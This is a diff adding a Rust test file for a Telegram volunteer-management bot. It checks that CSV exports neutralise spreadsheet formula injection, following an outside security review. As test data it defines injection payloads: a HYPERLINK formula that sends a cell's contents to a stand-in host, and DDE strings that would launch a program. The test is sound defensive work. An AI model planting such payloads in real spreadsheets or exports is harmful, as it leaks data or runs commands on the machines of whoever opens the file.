@@ -1,0 +1,147 @@
+//! What an outside security and privacy review found, closed: CSV cells that a spreadsheet
+//! would run, invites that did more than `/grant` may, admins that outlived `ADMIN_IDS`, and
+//! small leaks (broadcast reports after a demotion, `/grant`'s answers, ids in `/mydata`, line
+//! breaks the calendar file cannot carry).
+
+mod support;
+
+use std::time::Duration;
+
+use birlik::db::wings;
+use birlik::i18n::Lang;
+use support::app::texts;
+use support::{TestApp, TgUser};
+
+const TITLE: &str = "=HYPERLINK(\"https://x.example/?\"&B2,\"open\")";
+const PLACE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
+const WING: &str = "+cmd|' /C calc'!A0";
+
+/// Every field of a CSV file (after its byte-order mark), header included.
+fn fields(bytes: &[u8]) -> Vec<String> {
+    let text = String::from_utf8(bytes.to_vec()).unwrap();
+    let text = text.strip_prefix('\u{feff}').expect("a byte-order mark");
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.as_bytes())
+        .records()
+        .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .collect()
+}
+
+/// `sender` prepares a message in English to the audience behind `audience_label` and sends it.
+async fn broadcast(app: &TestApp, sender: &TgUser, audience_label: &str, text: &str) {
+    let en = |key: &str| app.text(Lang::En, key);
+    app.send(sender, "/broadcast").await;
+    app.press(sender, audience_label).await;
+    let asked = app.send(sender, text).await;
+    assert_eq!(texts(&asked), [en("broadcast-which-language")]);
+    app.press(sender, "English").await;
+    app.press(sender, &en("broadcast-preview")).await;
+    let summary = app
+        .fake
+        .sent_to(sender.id)
+        .into_iter()
+        .rev()
+        .find(|s| s.text.starts_with("Audience"))
+        .expect("the summary before sending");
+    let send_label = summary
+        .button_labels()
+        .into_iter()
+        .find(|l| l.starts_with('✅'))
+        .expect("a Send button with the audience size");
+    app.press(sender, &send_label).await;
+    app.wait_broadcasts_finished(Duration::from_secs(15)).await;
+    let csv_label = en("broadcast-unreached-csv");
+    app.wait_until("the final report with its CSV button", || {
+        app.fake.find_button(sender.id, &csv_label).is_some()
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn no_csv_lets_text_from_people_run_as_a_spreadsheet_formula() {
+    let app = TestApp::spawn_with(&[("ADMIN_IDS", "1")]).await;
+    let en = |key: &str| app.text(Lang::En, key);
+    let admin = TgUser::new(1, "Admin", Some("en"));
+    app.fake.add_private_chat(&admin);
+    let member = TgUser::new(100, "Member", Some("en"));
+    let seeded = app.seed_member(&member, "KZ-75", Lang::En).await;
+    // An organiser's event title and place, and a coordinator's wing name, as a spreadsheet
+    // would run them.
+    let wing = wings::insert(&app.pool, "KZ-75", WING, 0).await.unwrap();
+    sqlx::query("UPDATE members SET wing_id = ? WHERE id = ?")
+        .bind(wing.id)
+        .bind(seeded.id)
+        .execute(&app.pool)
+        .await
+        .unwrap();
+    let event = app
+        .seed_event(&admin, Some("KZ-75"), Some(10), chrono::Duration::hours(48))
+        .await;
+    sqlx::query("UPDATE events SET title = ?, place = ? WHERE id = ?")
+        .bind(TITLE)
+        .bind(PLACE)
+        .bind(event.id)
+        .execute(&app.pool)
+        .await
+        .unwrap();
+    sqlx::query(
+        "INSERT INTO signups (event_id, member_id, status, seq, created_at, updated_at)
+         VALUES (?, ?, 'confirmed', 1, 1, 1)",
+    )
+    .bind(event.id)
+    .bind(seeded.id)
+    .execute(&app.pool)
+    .await
+    .unwrap();
+    app.queue_idle().await;
+
+    // /export, /volunteers with its CSV, and a broadcast's "not reached" list.
+    app.send(&admin, "/export").await;
+    app.send(&admin, &format!("/volunteers {}", event.id)).await;
+    app.press(&admin, &en("volunteers-csv")).await;
+    app.fake.block_chat(member.id);
+    broadcast(&app, &admin, &en("broadcast-to-all"), "Hello, everyone").await;
+    app.press(&admin, &en("broadcast-unreached-csv")).await;
+
+    let files = app.fake.documents_to(admin.id);
+    let file = |prefix: &str| {
+        let (_, bytes) = files
+            .iter()
+            .find(|(name, _)| name.starts_with(prefix))
+            .unwrap_or_else(|| {
+                panic!(
+                    "no {prefix} file among {:?}",
+                    files.iter().map(|f| &f.0).collect::<Vec<_>>()
+                )
+            });
+        fields(bytes)
+    };
+    let has = |fields: &[String], cell: &str| fields.iter().any(|f| f == cell);
+    let events = file("events-");
+    assert!(has(&events, &format!("'{TITLE}")), "{events:?}");
+    assert!(has(&events, &format!("'{PLACE}")), "{events:?}");
+    let participation = file("participation-");
+    assert!(has(&participation, &format!("'{TITLE}")), "{participation:?}");
+    let members = file("members-");
+    assert!(has(&members, &format!("'{WING}")), "{members:?}");
+    // Phones are text from people too: the quote also keeps the plus a spreadsheet would drop.
+    assert!(has(&members, "'+77010000100"), "{members:?}");
+    let volunteers = file(&format!("event-{}-volunteers", event.id));
+    assert!(has(&volunteers, "'+77010000100"), "{volunteers:?}");
+    let unreached = file("broadcast-1-not-reached");
+    assert!(has(&unreached, &format!("'{WING}")), "{unreached:?}");
+    // Counts stay numbers.
+    assert!(has(&events, "10"), "the capacity: {events:?}");
+
+    assert_eq!(files.len(), 5);
+    for (name, bytes) in &files {
+        for field in fields(bytes) {
+            assert!(
+                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{name}: {field:?} would run as a formula"
+            );
+        }
+    }
+}
